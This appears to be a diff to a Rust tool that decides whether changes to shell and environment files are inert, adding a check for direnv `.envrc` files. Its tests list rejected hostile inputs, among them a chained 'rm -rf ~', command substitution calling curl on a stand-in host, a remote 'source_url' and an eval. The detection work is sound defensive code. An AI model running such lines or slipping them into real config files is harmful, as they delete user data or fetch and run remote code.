@@ -1473,6 +1473,11 @@ fn inert_change(f: &FileEffect) -> bool {
             f.transition == Transition::Modified && adds_only() && only_inert_aliases(&added_text(f))
         }
         Some("ssh configuration") => adds_only() && only_plain_ssh_hosts(&added_text(f)),
+        // direnv runs a new or changed `.envrc` only once the user allows it; plain variables
+        // and direnv's own set-up words run nothing else.
+        Some("editor or environment task file") if f.path.file_name().is_some_and(|n| n == ".envrc") => {
+            adds_only() && only_plain_envrc(&added_text(f))
+        }
         Some("systemd unit") => {
             adds_only()
                 && f.after.as_ref().is_some_and(|a| a.kind == foresee_report::EntryKind::File)
@@ -1531,6 +1536,33 @@ fn only_plain_ssh_hosts(added: &str) -> bool {
 }
 
 /// `export PATH="$HOME/tools/bin:$PATH"`: directories put on the search path, nothing run.
+/// An `.envrc` of plain exports (no command substitution) and direnv's set-up words (`layout
+/// python3`, `use node 20`, `PATH_add bin`, `dotenv`, `watch_file x`).
+fn only_plain_envrc(added: &str) -> bool {
+    let plain = |w: &str| w.chars().all(|c| c.is_ascii_alphanumeric() || "/._-:@,=+%~".contains(c));
+    let mut any = false;
+    for l in added.lines().map(str::trim) {
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        let words: Vec<&str> = l.split_whitespace().collect();
+        let ok = match words.as_slice() {
+            ["export", def] => def.split_once('=').is_some_and(|(n, v)| {
+                n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && plain(v.trim_matches(['"', '\'']))
+            }),
+            ["layout" | "use" | "PATH_add" | "dotenv" | "dotenv_if_exists" | "watch_file", rest @ ..] => {
+                rest.len() <= 2 && rest.iter().all(|w| plain(w))
+            }
+            _ => false,
+        };
+        if !ok {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
 /// zsh's completion set-up: a plain folder put on `fpath`, and the completion system loaded.
 fn completion_setup(l: &str) -> bool {
     let l = l.split(" #").next().unwrap_or(l).trim();
@@ -2160,6 +2192,17 @@ mod tests {
             "compinit && curl x.example",
         ] {
             assert!(!only_inert_aliases(added), "{added:?}");
+        }
+        assert!(only_plain_envrc(
+            "# dev\nexport AWS_PROFILE=acme-dev\nexport DATABASE_URL=postgres://a:a@127.0.0.1:5432/d\nlayout python3\n"
+        ));
+        for bad in [
+            "export X=$(curl x.example)",
+            "layout python3; rm -rf ~",
+            "source_url https://x.example/e h",
+            "eval \"$(x)\"",
+        ] {
+            assert!(!only_plain_envrc(bad), "{bad}");
         }
         // A PATH entry added only once, and zsh's completion set-up.
         assert!(only_inert_aliases(
